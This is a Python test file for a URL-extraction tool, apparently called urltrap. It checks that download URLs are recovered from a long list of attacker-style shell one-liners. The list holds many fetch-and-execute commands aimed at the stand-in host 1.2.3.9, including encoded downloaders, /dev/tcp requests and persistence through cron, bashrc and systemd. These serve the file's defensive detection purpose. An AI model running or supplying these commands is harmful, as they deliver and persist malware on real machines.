"""The ways to download that attackers use: each gives its URL from the text alone."""

from __future__ import annotations

import re

import pytest
from tests.recover.wrappers import WRAPPERS

from urltrap import recover

U = "http://1.2.3.9/x"

WAYS = [
    "wget U",
    "wget -q U -O /tmp/y &",
    "nohup wget U &",
    "timeout 10 wget U",
    "echo U | xargs wget",
    'eval "wget U"',
    "curl -fsSL U",
    "curl --url U -o y",
    "bash <(curl -s U)",
    'bash -c "$(curl -fsSL U)"',
    'sh -c "$(wget -qO- U)"',
    '$SHELL -c "wget U"',
    "echo U | wget -i -",
    "echo U > l; wget -i l",
    "$(which wget) U",
    'wget$IFS"U"',
    "wget${IFS}U",
    "w''get U",
    "w\\get U",
    "f(){ wget U; }; f",
    "f(){ wget U; }",
    "echo d2dldCBodHRwOi8vMS4yLjMuOS94|base64 -d|sh",
    "printf '\\x77\\x67\\x65\\x74\\x20U' | sh",
    "echo 7767657420687474703a2f2f312e322e332e392f78 | xxd -r -p | sh",
    "cat > a.sh <<E\nwget U\nE\nsh a.sh",
    "wget http://1.2.3.9/a.sh || curl -O U",
    "[ -f /tmp/q ] || wget U",
    "if [ ! -f x ]; then wget U; fi",
    "for a in x y; do wget http://1.2.3.9/$a; done",
    "while true; do wget U; sleep 5; done",
    "H=1.2.3.9; a=x; wget http://$H/$a",
    "wget ftp://u:p@1.2.3.9/x",
    "curl -O ftp://1.2.3.9/x",
    "ftp ftp://1.2.3.9/x",
    "ftp -n 1.2.3.9 <<E\nuser a b\nget x\nbye\nE",
    'lftp -e "get x; bye" 1.2.3.9',
    "ncftpget -u a -p b 1.2.3.9 . x",
    "tftp -g -r x 1.2.3.9",
    "tftp 1.2.3.9 -c get x",
    "tftp -g -l y -r x 1.2.3.9",
    "ftpget -u anonymous -p a 1.2.3.9 x x",
    "scp root@1.2.3.9:/x /tmp",
    "sftp root@1.2.3.9:/x",
    "rsync -a 1.2.3.9::m/x .",
    "rsync rsync://1.2.3.9/m/x .",
    "git clone http://1.2.3.9/x.git",
    "python -c \"import urllib; urllib.urlretrieve('U','y')\"",
    "python3 -c 'import urllib.request as r;exec(r.urlopen(\"U\").read())'",
    "python -c \"import os; os.system('wget U')\"",
    'python - <<E\nimport urllib2\nurllib2.urlopen("U")\nE',
    'perl -e \'use LWP::Simple; getstore("U","y")\'',
    "perl -MLWP::Simple -e \"getprint 'U'\"",
    'php -r \'copy("U","y");\'',
    'php -r \'file_put_contents("y", file_get_contents("U"));\'',
    "ruby -e \"require 'open-uri'; eval open('U').read\"",
    "lwp-download U",
    "GET U > y",
    "printf 'GET /x HTTP/1.0\\r\\nHost: 1.2.3.9\\r\\n\\r\\n' | nc 1.2.3.9 80",
    'exec 3<>/dev/tcp/1.2.3.9/80; echo -e "GET /x HTTP/1.0\\n\\n" >&3; cat <&3',
    "exec 6<>/dev/tcp/1.2.3.9/8080 && echo -n 'GET /x' >&6 && cat 0<&6 > y",
    '(echo "* * * * * wget U") | crontab -',
    'echo "*/5 * * * * root curl -s U|sh" >> /etc/crontab',
    'echo "wget U" >> ~/.bashrc',
    'echo "wget U" >> /etc/rc.local',
    "cat <<E > /etc/systemd/system/a.service\n[Service]\nExecStart=/bin/sh -c 'curl U | sh'\nE",
    "aria2c U",
    "axel U",
    "lynx -source U > y",
    "fetch U",
    "pip install U",
    "apt install http://1.2.3.9/x.deb",
    "busybox wget U",
    "/bin/busybox wget U",
    "wget -g 1.2.3.9 -l y -r /x",
    '/tool fetch url="U" mode=http',
    "/tool fetch address=1.2.3.9 src-path=x mode=http",
    'powershell -c "Invoke-WebRequest -Uri U -OutFile y"',
    "powershell (New-Object Net.WebClient).DownloadFile('U','y')",
    "powershell -enc dwBnAGUAdAAgAGgAdAB0AHAAOgAvAC8AMQAuADIALgAzAC4AOQAvAHgA",
    "certutil -urlcache -split -f U y",
    "bitsadmin /transfer j U c:\\y",
    "wget 1.2.3.9/x",
    "curl 1.2.3.9/x|sh",
    "cd /tmp;wget U;chmod +x x;./x",
    "(wget -O- U||curl http://1.2.3.9/y)|bash",
    "wget `echo U`",
    "wget $(echo x/9.3.2.1//:ptth | rev)",
    "a=(http:// 1.2.3.9 /x); wget ${a[0]}${a[1]}${a[2]}",
    "find / -name q -exec wget U \\;",
    'su -c "wget U"',
    "sudo -u root wget U",
    "screen -dmS a wget U",
    "ssh localhost wget U",
    'at now <<< "wget U"',
    'echo "wget U" | at now',
    'trap "wget U" EXIT',
    "http U",
    "env A=b wget U",
    "! wget U",
    "{ wget U; }",
    "cp /usr/bin/wget /tmp/g; /tmp/g U",
    "ln -s /usr/bin/wget g; ./g U",
    "watch -n 5 curl U",
    'echo "wget U" | openssl enc -base64 | openssl enc -base64 -d | sh',
    "echo wget U | tee a.sh | sh",
    "echo 'wget http://1.2.3.9/xQQ' | sed 's/QQ//' | sh",
    "awk 'BEGIN{print \"wget U\"}' | sh",
    "awk 'BEGIN{system(\"wget U\")}'",
    'docker run -v /:/mnt alpine chroot /mnt sh -c "wget U"',
    "set -e; false; wget U",
    "exit; wget U",
    'wget U -U "Mozilla (http://bad.cc/)" --referer http://bad.cc/',
    "wget -qO- U | tar xz",
    "case $(uname -m) in x86_64) a=x;; *) a=y;; esac; wget http://1.2.3.9/$a",
    "if [ $(id -u) -eq 0 ]; then u=U; else u=http://1.2.3.9/y; fi; curl $u",
    "declare -A m; m[a]=U; wget ${m[a]}",
    "read u <<< U; wget $u",
    "printf -v u '%s' U; wget $u",
]


def written(way: str) -> str:
    return re.sub(r"(?<![A-Za-z-])U(?![A-Za-z])", U, way)


def found(text: str) -> list[str]:
    items = recover.urls(text.encode())
    return [item.url for item in items if item.confidence >= 60 and not item.runtime]


def holds(urls: list[str]) -> bool:
    return any("1.2.3.9" in url and "x" in url.rpartition("1.2.3.9")[2] for url in urls)


@pytest.mark.parametrize("way", WAYS)
def test_every_way_to_download_gives_its_url(way: str) -> None:
    urls = found(written(way))
    assert holds(urls), urls
    assert not any("bad.cc" in url for url in urls)


@pytest.mark.parametrize("name", WRAPPERS)
def test_a_way_to_download_gives_its_url_in_every_wrapping(name: str) -> None:
    # Every wrapping takes another ninth of the ways: together they meet each other often enough for a test.
    first = list(WRAPPERS).index(name) % 9
    lost = []
    for way in WAYS[first::9]:
        text = WRAPPERS[name](written(way))
        if text is not None and not holds(urls := found(text)):
            lost.append((text, urls))
    assert not lost
